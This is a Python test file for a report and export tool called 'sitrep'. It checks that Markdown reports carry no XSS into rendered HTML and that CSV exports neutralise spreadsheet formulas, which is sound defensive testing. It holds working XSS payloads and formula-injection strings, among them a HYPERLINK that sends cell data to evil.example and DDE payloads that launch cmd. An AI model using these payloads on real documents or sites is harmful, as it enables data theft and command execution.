"""What sitrep writes for other programs to open must not attack their user: a Markdown report
rendered to HTML runs no script from an actor name, place, quote or source address (checked in
Chromium with a dialog listener); a CSV export opened in a spreadsheet runs no formula (OWASP:
cells starting with ``= + - @``, tab or CR get an apostrophe), and the import gives the values
back exactly. Also: UTF-16 text without a byte-order mark is read as text, not refused."""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from export_factories import add_article, add_event
from sitrep.export import export_events
from sitrep.export.formats import FORMULA_START, neutralise_formula, restore_formula
from sitrep.export.imports import read_acled_csv
from sitrep.ingest.parse import parse_item
from sitrep.models import RawItem
from sitrep.report import build_report
from sitrep.store import Store

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
FROM, TO = date(2024, 1, 15), date(2024, 2, 29)

PAYLOADS = {
    "actor1": "<script>alert('actor1')</script>",
    "actor2": "<img src=x onerror=alert('actor2')>",
    "location": "[click me](javascript:alert('location'))",
    "admin1": "<svg onload=alert('admin1')>",
    "sub_event_type": "<iframe src=javascript:alert('type')></iframe>",
}


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not CHROMIUM.exists():
        if os.environ.get("SITREP_REQUIRE_BROWSER") == "1":
            pytest.fail("Chromium is not installed at /usr/bin/chromium")
        pytest.skip("Chromium is not installed at /usr/bin/chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield b
        b.close()


def hostile_store(store: Store) -> Store:
    article = add_article(
        store, outlet="<b onmouseover=alert('outlet')>Outlet</b>", url="javascript:alert('url')"
    )
    add_event(
        store,
        event_date="2024-01-20",
        sources=[(article, "He said <script>alert('sentence')</script> | and [x](javascript:1)")],
        **PAYLOADS,
    )
    return store


@pytest.mark.browser
def test_security_markdown_report_runs_no_script_when_rendered(
    sqlite_store: Store, browser: object, tmp_path: Path
) -> None:
    text = build_report(hostile_store(sqlite_store), FROM, TO, fmt="markdown")
    assert "<script" not in text
    assert "<img" not in text
    assert not re.search(r"(?<!\\)\]\(javascript:", text)
    # the most permissive common renderer: CommonMark with raw HTML passed through
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    page = browser.new_page()  # type: ignore[attr-defined]
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.set_content(f"<!doctype html><html><body>{html}</body></html>")
    for link in page.query_selector_all("a"):
        href = link.get_attribute("href") or ""
        assert not href.lower().startswith("javascript:"), href
        link.click()  # a javascript: link would open a dialog now
    page.mouse.move(5, 5)
    page.wait_for_timeout(200)
    body = page.inner_text("body")
    page.close()
    assert dialogs == []
    # the names are shown as written, not dropped
    assert "<script>alert('actor1')</script>" in body
    assert "[click me](javascript:alert('location'))" in body


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
    "two\rlines, one cell",
]


def test_security_csv_exports_neutralise_formulas_and_import_restores_them(
    sqlite_store: Store, tmp_path: Path
) -> None:
    for i, formula in enumerate(FORMULAS):
        add_event(sqlite_store, id=f"f{i}", actor1=formula, notes=formula, location="-12")
    for fmt in ("acled-csv", "csv"):
        out = tmp_path / f"events-{fmt}.csv"
        export_events(sqlite_store, fmt, out)
        with out.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for cell in row.values():
                if cell[:1] in FORMULA_START:
                    float(cell)  # only a number (-12, -12.5) may start like a formula
        assert {r["actor1"] for r in rows} == {neutralise_formula(f) for f in FORMULAS}
        assert {r["location"] for r in rows} == {"-12"}  # a number, left alone
    records = [r for _, r in read_acled_csv(tmp_path / "events-acled-csv.csv")]
    assert sorted(r.actor1 for r in records) == sorted(FORMULAS)  # type: ignore[union-attr]


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "a", " "])))
def test_security_formula_neutralising_is_undone_exactly(value: str) -> None:
    cell = neutralise_formula(value)
    assert restore_formula(cell) == value
    if cell[:1] in FORMULA_START:
        float(cell)  # only a plain number may start like a formula


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_security_utf16_without_bom_is_text(encoding: str) -> None:
    text = (
        "Rockets struck Camp Taji on Monday, the coalition said — “three” wounded.\n\n"
        "Kataib Hezbollah denied any role. سقطت ثلاثة صواريخ"
    )
    article = parse_item(
        RawItem(source=f"report-{encoding}.txt", raw=text.encode(encoding), media_type="text")
    )
    read = f"{article.title}\n{article.text}"
    assert "Kataib Hezbollah denied any role" in read
    assert "سقطت ثلاثة صواريخ" in read
    assert "Rockets struck Camp Taji" in read
